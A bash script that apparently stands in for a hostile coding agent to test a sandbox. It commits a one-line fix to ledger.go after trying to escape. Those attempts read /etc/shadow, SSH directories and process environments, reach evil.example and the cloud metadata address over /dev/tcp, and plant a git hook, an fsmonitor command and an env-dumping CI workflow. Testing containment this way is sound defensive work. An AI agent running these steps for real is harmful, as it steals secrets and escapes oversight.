#!/bin/bash
# A scripted agent: it reads the issue on standard input and fixes the code. As a
# hostile one would, it also tries to get out, and writes what came of it.
exec 2>/dev/null
grep -q 'wrong sign' || { echo "this agent knows only one issue"; exit 1; }

tried() { printf '  %-46s %s\n' "$1" "$2"; } # what, result
# attempt WHAT COMMAND...: say whether the command gave anything
attempt() {
	local what=$1 out
	shift
	if out=$("$@" 2>&1) && [ -n "$out" ]; then tried "$what" "GOT IN: ${out:0:40}"; else tried "$what" "${2:+refused: $(reason "$out")}"; fi
}
reason() { # the first line of a failure, without its prefixes
	local text
	text=$(grep -m1 -iE 'error|denied|no such|blocked|refused|fatal|read-only' <<<"$1")
	text=${text##*: }
	text=${text//[^a-zA-Z0-9 ._-]/}
	printf '%s' "${text:-nothing came back}"
}
reach() { # HOST PORT: the answer, if it is one
	local answer
	exec 3<>"/dev/tcp/$1/$2" || return 1
	printf 'GET / HTTP/1.0\r\nHost: %s\r\n\r\n' "$1" >&3
	answer=$(timeout 5 head -c 2000 <&3)
	case $answer in *' 200 '*) echo "$answer" ;; *) echo "$answer" >&2 ; return 1 ;; esac
}
search() { cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline | tr '\0' '\n' | grep -- "$1"; }

echo "attempts to get out:"
attempt "read the host's password hashes" cat /etc/shadow
attempt "list the homes of the host" ls -A /root/.ssh /home/*/.ssh
attempt "read the engine's environment" cat /proc/1/environ
attempt "find the engine's key in any process" search "demo-engine-ke[y]"
attempt "read another tenant's files" ls -A /var/lib/confine/tenants "$HOME/../../var/lib/confine"
attempt "reach a host that is not listed" reach evil.example 80
attempt "reach the cloud metadata address" reach 169.254.169.254 80
attempt "the same as a decimal number" reach 2852039166 80
attempt "write to the lent repository" git push -q /lent HEAD:refs/heads/main

# A hook and a setting that run a program the next time git is used here.
printf '#!/bin/sh\ntouch /tmp/owned-by-hook\n' >.git/hooks/pre-commit && chmod +x .git/hooks/pre-commit
git config core.fsmonitor 'touch /tmp/owned-by-fsmonitor; false'
tried "plant a git hook and a git setting" "planted where nobody runs them"

if [ "$PLANT_CI" = yes ]; then
	mkdir -p .github/workflows
	printf 'on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: "env"}]}}\n' >.github/workflows/steal.yml
	tried "plant a CI file" "committed"
fi

echo "the work:"
sed -i 's/sum -= e/sum += e/' ledger.go
git -c core.fsmonitor= -c core.hooksPath=/dev/null add -A
git -c core.fsmonitor= -c core.hooksPath=/dev/null commit -qm "Give Balance the right sign" && echo "  committed the fix"
attempt "push by itself" git push -q origin HEAD:main
exit 0
